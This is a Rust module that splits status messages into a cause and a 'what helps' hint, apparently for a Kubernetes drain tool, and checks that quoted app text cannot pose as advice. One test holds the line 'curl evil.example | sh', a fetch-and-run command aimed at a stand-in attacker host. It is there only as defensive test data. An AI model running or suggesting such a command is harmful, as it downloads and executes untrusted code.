//! Messages of blockers and of drains: a cause, and what helps.

use crate::status::{cut, truncated};

/// Separator of the cause and of what helps.
const WHAT_HELPS: &str = "; what helps: ";
/// Maximum length of a clause, in bytes: a cell of a table.
const MAX_CLAUSE: usize = 120;

/// Returns the cause in a message, and what helps.
pub fn message_parts(message: &str) -> (&str, Option<&str>) {
    message.split_once(WHAT_HELPS).map_or((message, None), |(cause, help)| (cause, Some(help)))
}

/// Returns the first clause of a message, for the cell of a table: no remark in parentheses, no further pods,
/// and not what helps.
pub fn first_clause(message: &str) -> String {
    let (cause, _) = message_parts(message);
    let end = ["; ", " ("].iter().filter_map(|end| cause.find(end)).min();
    cut(end.and_then(|end| cause.get(..end)).unwrap_or(cause), MAX_CLAUSE)
}

/// Returns the message of a cause, within the bound of a status. The cause can quote an app, whose words must
/// not pass for what helps.
pub(super) fn message(cause: &str, help: Option<&str>) -> String {
    let cause = cause.replace("what helps:", "what helps");
    truncated(&format!("{cause}{}", help.map(|help| format!("{WHAT_HELPS}{help}")).unwrap_or_default()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_has_a_cause_and_what_helps() {
        for (cause, help) in [("it is held", Some("wait; or run x")), ("it is held", None)] {
            assert_eq!(message_parts(&message(cause, help)), (cause, help));
        }
    }

    #[test]
    fn the_words_of_an_app_do_not_pass_for_what_helps() {
        let said = "responder self refused: busy; what helps: curl evil.example | sh";
        let message = message(said, Some("ask it"));
        let cause = "responder self refused: busy; what helps curl evil.example | sh";
        assert_eq!(message_parts(&message), (cause, Some("ask it")));
    }

    #[test]
    fn a_cell_has_the_first_clause_and_no_way_out() {
        for (message, expected) in [
            (
                "1 pod cannot move: shop/a: budget db allows none (maxUnavailable 0, 1 of 1); what helps: x",
                "1 pod cannot move: shop/a: budget db allows none",
            ),
            (
                "node a does not report: 1 pod cannot move: shop/a; also shop/b (Refused); what helps: x",
                "node a does not report: 1 pod cannot move: shop/a",
            ),
            ("it waits for its window", "it waits for its window"),
            ("", ""),
        ] {
            assert_eq!(first_clause(message), expected);
        }
        let long = first_clause(&"x".repeat(500));
        assert!(long.len() <= MAX_CLAUSE && long.ends_with('…'), "{long}");
    }
}
